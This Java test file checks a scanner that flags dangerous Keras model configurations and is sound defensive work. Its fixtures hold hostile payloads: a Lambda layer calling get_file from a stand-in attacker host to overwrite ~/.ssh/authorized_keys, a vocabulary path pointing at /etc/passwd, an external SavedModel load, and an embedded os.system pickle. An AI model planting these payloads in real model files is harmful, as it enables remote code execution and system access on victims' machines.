package org.mlgate.scan.keras;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.mlgate.core.Finding;
import org.mlgate.core.Severity;
import org.mlgate.core.Verdict;
import org.mlgate.scan.FileResult;
import org.mlgate.scan.Scanner;
import org.mlgate.scan.testing.PickleBuilder;

/** Keras callables and layers with side effects: HIGH, though they live in the keras namespace. */
class KerasGadgetTest {
    private static final Scanner SCANNER = Scanner.builder().threads(1).build();

    private static FileResult scanKeras(String layer) throws IOException {
        String config = "{\"module\": \"keras\", \"class_name\": \"Sequential\", \"config\": {\"name\": \"s\", "
                + "\"layers\": [" + layer + "]}, \"registered_name\": null}";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(out)) {
            z.putNextEntry(new ZipEntry("metadata.json"));
            z.write("{\"keras_version\": \"3.10.0\"}".getBytes(StandardCharsets.UTF_8));
            z.putNextEntry(new ZipEntry("config.json"));
            z.write(config.getBytes(StandardCharsets.UTF_8));
        }
        return SCANNER.scanBytes("m.keras", out.toByteArray());
    }

    private static String lambda(String module, String function) {
        return "{\"module\": \"keras.layers\", \"class_name\": \"Lambda\", \"config\": {\"name\": \"l\", \"function\": "
                + "{\"module\": \"" + module + "\", \"class_name\": \"function\", \"config\": \"" + function + "\", "
                + "\"registered_name\": \"function\"}, \"arguments\": {\"origin\": \"http://attacker/x\", "
                + "\"cache_dir\": \"/home/user/.ssh\", \"fname\": \"authorized_keys\"}}, \"registered_name\": null}";
    }

    @Test
    void malicious_lambdaCallingGetFileIsHigh() throws IOException {
        FileResult r = scanKeras(lambda("keras.utils", "get_file"));
        assertThat(r.verdict()).isEqualTo(Verdict.UNSAFE);
        assertThat(r.findings()).singleElement().satisfies(f -> {
            assertThat(f.ruleId()).isEqualTo("MLG-KERAS-005");
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.message()).contains("keras.utils.get_file", "downloads");
        });
    }

    @Test
    void malicious_getFileUnderKerasSrcAndAsKeras2FunctionName() throws IOException {
        assertThat(scanKeras(lambda("keras.src.utils.file_utils", "get_file")).verdict()).isEqualTo(Verdict.UNSAFE);
        FileResult k2 = scanKeras("{\"class_name\": \"Lambda\", \"config\": {\"function\": \"get_file\", "
                + "\"function_type\": \"function\", \"module\": \"keras.utils\"}}");
        assertThat(k2.findings()).extracting(Finding::ruleId).containsExactly("MLG-KERAS-005");
    }

    @Test
    void malicious_enableUnsafeDeserializationIsCritical() throws IOException {
        FileResult r = scanKeras(lambda("keras.config", "enable_unsafe_deserialization"));
        assertThat(r.maxSeverity()).isEqualTo(Severity.CRITICAL);
    }

    @Test
    void nearMiss_lambdaCallingAKerasActivationIsOnlyANote() throws IOException {
        FileResult r = scanKeras(lambda("keras.activations", "relu"));
        assertThat(r.verdict()).isEqualTo(Verdict.SAFE);
        assertThat(r.findings()).singleElement().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.INFO));
    }

    @Test
    void malicious_tfsmLayerLoadingAnExternalSavedModelIsHigh() throws IOException {
        FileResult r = scanKeras("{\"module\": \"keras.layers\", \"class_name\": \"TFSMLayer\", \"config\": "
                + "{\"name\": \"t\", \"filepath\": \"/tmp/attacker_savedmodel\", \"call_endpoint\": "
                + "\"serving_default\"}, \"registered_name\": \"TFSMLayer\"}");
        assertThat(r.verdict()).isEqualTo(Verdict.UNSAFE);
        assertThat(r.findings()).singleElement().satisfies(f -> {
            assertThat(f.ruleId()).isEqualTo("MLG-KERAS-006");
            assertThat(f.message()).contains("/tmp/attacker_savedmodel", "SavedModel");
            assertThat(f.location().at()).endsWith(".config.filepath");
        });
    }

    @Test
    void malicious_stringLookupVocabularyPathIsHigh_nearMiss_inlineVocabularyIsFine() throws IOException {
        FileResult path = scanKeras("{\"module\": \"keras.layers\", \"class_name\": \"StringLookup\", \"config\": "
                + "{\"name\": \"s\", \"vocabulary\": \"/etc/passwd\"}, \"registered_name\": null}");
        assertThat(path.findings()).extracting(Finding::ruleId).containsExactly("MLG-KERAS-006");
        FileResult inline = scanKeras("{\"module\": \"keras.layers\", \"class_name\": \"StringLookup\", \"config\": "
                + "{\"name\": \"s\", \"vocabulary\": [\"a\", \"b\"]}, \"registered_name\": null}");
        assertThat(inline.findings()).isEmpty();
        assertThat(inline.verdict()).isEqualTo(Verdict.SAFE);
    }

    @Test
    void malicious_torchModuleWrapperPickleIsOpenedAndItsPayloadReported() throws IOException {
        String b64 = Base64.getEncoder().encodeToString(PickleBuilder.create().proto(2).osSystem().stop().bytes());
        FileResult r = scanKeras("{\"module\": \"keras.layers\", \"class_name\": \"TorchModuleWrapper\", \"config\": "
                + "{\"name\": \"t\", \"module\": \"" + b64 + "\"}, \"registered_name\": null}");
        assertThat(r.findings()).extracting(Finding::ruleId).contains("MLG-KERAS-006", "MLG-PKL-001");
        assertThat(r.maxSeverity()).isEqualTo(Severity.CRITICAL);
    }

    @Test
    void theReviewedListGivesEveryEntryAReason() {
        KerasGadgets.Document d = KerasGadgets.document();
        assertThat(d.callables()).isNotEmpty().allSatisfy(c -> assertThat(c.reason()).isNotBlank());
        assertThat(d.layers()).extracting(KerasGadgets.Layer::name).contains("TFSMLayer", "StringLookup");
        assertThat(d.reviewedWithoutEffect()).allSatisfy(c -> assertThat(c.reason()).isNotBlank());
    }
}
